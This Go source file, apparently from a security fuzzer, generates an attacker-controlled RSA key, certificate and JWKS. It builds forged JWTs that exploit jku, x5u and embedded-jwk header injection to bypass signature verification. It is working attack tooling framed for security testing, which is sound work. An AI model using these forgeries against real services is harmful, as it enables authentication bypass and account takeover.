package jwt

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"sync"
	"time"
)

// AttackerKeyBits is the modulus size of the key AttackerKeys generates.
const AttackerKeyBits = 2048

// The content types under which the key documents are served.
const (
	// JWKSContentType is the type of a JWKS document (a jku target).
	JWKSContentType = "application/json"
	// CertificateContentType is the type of a PEM certificate chain (an
	// x5u target, RFC 7515 section 4.1.5).
	CertificateContentType = "application/pem-certificate-chain"
)

// AttackerKey is an RSA key pair the fuzzer controls and the documents
// that publish its public half: the jku, x5u and embedded-jwk forgeries
// are signed with it. Build one with NewAttackerKey, or once per run with
// AttackerKeys.
type AttackerKey struct {
	// Private is the signing key.
	Private *rsa.PrivateKey
	// KeyID is the key's RFC 7638 thumbprint, the kid of the forgeries.
	KeyID string

	jwk     map[string]any
	jwks    []byte
	certPEM []byte
}

// NewAttackerKey wraps priv, with a self-signed certificate valid from a
// day before now to a year after.
func NewAttackerKey(priv *rsa.PrivateKey, now time.Time) (*AttackerKey, error) {
	if priv == nil {
		return nil, fmt.Errorf("attacker key: no private key")
	}
	n := b64.EncodeToString(priv.N.Bytes())
	e := b64.EncodeToString(big.NewInt(int64(priv.E)).Bytes())
	k := &AttackerKey{Private: priv, KeyID: rsaThumbprint(n, e)}

	serialBytes := sha256.Sum256(priv.N.Bytes())
	serial := new(big.Int).SetBytes(serialBytes[:16])
	tmpl := &x509.Certificate{
		SerialNumber:          serial,
		Subject:               pkix.Name{CommonName: "specter fuzzer key " + k.KeyID[:12]},
		NotBefore:             now.Add(-24 * time.Hour),
		NotAfter:              now.Add(365 * 24 * time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		BasicConstraintsValid: true,
		IsCA:                  true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &priv.PublicKey, priv)
	if err != nil {
		return nil, fmt.Errorf("attacker key: self-signed certificate: %w", err)
	}
	k.certPEM = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	k.jwk = map[string]any{"kty": "RSA", "kid": k.KeyID, "use": "sig", "alg": "RS256", "n": n, "e": e}
	entry := copyMap(k.jwk)
	entry["x5c"] = []string{base64.StdEncoding.EncodeToString(der)}
	k.jwks, err = json.Marshal(map[string]any{"keys": []any{entry}})
	if err != nil {
		return nil, fmt.Errorf("attacker key: JWKS: %w", err)
	}
	return k, nil
}

// rsaThumbprint is the RFC 7638 thumbprint of an RSA JWK with base64url
// members n and e: the SHA-256 of the required members in lexical order,
// without whitespace.
func rsaThumbprint(n, e string) string {
	sum := sha256.Sum256([]byte(`{"e":"` + e + `","kty":"RSA","n":"` + n + `"}`))
	return b64.EncodeToString(sum[:])
}

// PublicJWK returns a copy of the public key as a JWK object (kty, kid,
// use, alg, n, e), the value of an embedded jwk header.
func (k *AttackerKey) PublicJWK() map[string]any { return copyMap(k.jwk) }

// JWKS returns a copy of the JWKS document that publishes the public key
// (with its certificate in x5c), what a jku URL must serve.
func (k *AttackerKey) JWKS() []byte { return append([]byte(nil), k.jwks...) }

// CertificatePEM returns a copy of the self-signed certificate of the
// public key, PEM-encoded, what an x5u URL must serve.
func (k *AttackerKey) CertificatePEM() []byte { return append([]byte(nil), k.certPEM...) }

// AttackerKeys generates one AttackerKey on first use and returns the
// same one after, so that a run pays for RSA key generation once. The
// zero value generates an AttackerKeyBits key with crypto/rand. Safe for
// concurrent use; keep one per run.
type AttackerKeys struct {
	// Bits is the modulus size; 0 means AttackerKeyBits.
	Bits int
	// Now is the clock for the certificate's validity; nil is time.Now.
	Now func() time.Time

	once sync.Once
	key  *AttackerKey
	err  error
}

// Get returns the run's key, generating it on the first call.
func (a *AttackerKeys) Get() (*AttackerKey, error) {
	a.once.Do(func() {
		bits := a.Bits
		if bits == 0 {
			bits = AttackerKeyBits
		}
		now := time.Now
		if a.Now != nil {
			now = a.Now
		}
		priv, err := rsa.GenerateKey(rand.Reader, bits)
		if err != nil {
			a.err = fmt.Errorf("attacker key: generate %d-bit RSA key: %w", bits, err)
			return
		}
		a.key, a.err = NewAttackerKey(priv, now())
	})
	return a.key, a.err
}

// KeyInjections builds the forgeries signed with key (RS256, kid
// key.KeyID) that tell the verifier where to find key: jku naming
// jwksURL, which must serve key.JWKS(); x5u naming certURL, which must
// serve key.CertificatePEM(); and the key itself embedded as the jwk
// header. An empty URL leaves its forgery out. Each forgery's URL,
// Document and ContentType say what to serve. The header keeps t's
// members other than the key selectors (kid, jku, x5u, jwk, x5c, x5t); the
// claims are t's with exp, when present, ForgedLifetime after now.
func KeyInjections(t *Token, key *AttackerKey, jwksURL, certURL string, now time.Time) ([]Forged, error) {
	if key == nil {
		return nil, fmt.Errorf("key injections: no attacker key")
	}
	claims := forgedClaims(t, now)
	type variant struct {
		kind    Tampering
		member  string
		value   any
		url     string
		doc     []byte
		docType string
		note    string
		include bool
	}
	variants := []variant{
		{JKUInjection, "jku", jwksURL, jwksURL, key.jwks, JWKSContentType, "jku " + jwksURL + ", RS256 with the fuzzer's key", jwksURL != ""},
		{X5UInjection, "x5u", certURL, certURL, key.certPEM, CertificateContentType, "x5u " + certURL + ", RS256 with the fuzzer's self-signed certificate", certURL != ""},
		{EmbeddedJWK, "jwk", key.PublicJWK(), "", nil, "", "the fuzzer's public key in the jwk header, RS256", true},
	}
	var out []Forged
	for _, v := range variants {
		if !v.include {
			continue
		}
		h := forgedHeader(t, "RS256", map[string]any{"kid": key.KeyID, v.member: v.value})
		c := copyMap(claims)
		tok, err := signRS256(h, c, key.Private)
		if err != nil {
			return nil, fmt.Errorf("key injections: %s: %w", v.kind, err)
		}
		f := Forged{Tampering: v.kind, Token: tok, Note: v.note, Header: h, Claims: c, URL: v.url, ContentType: v.docType}
		if v.doc != nil {
			f.Document = append([]byte(nil), v.doc...)
		}
		out = append(out, f)
	}
	return out, nil
}
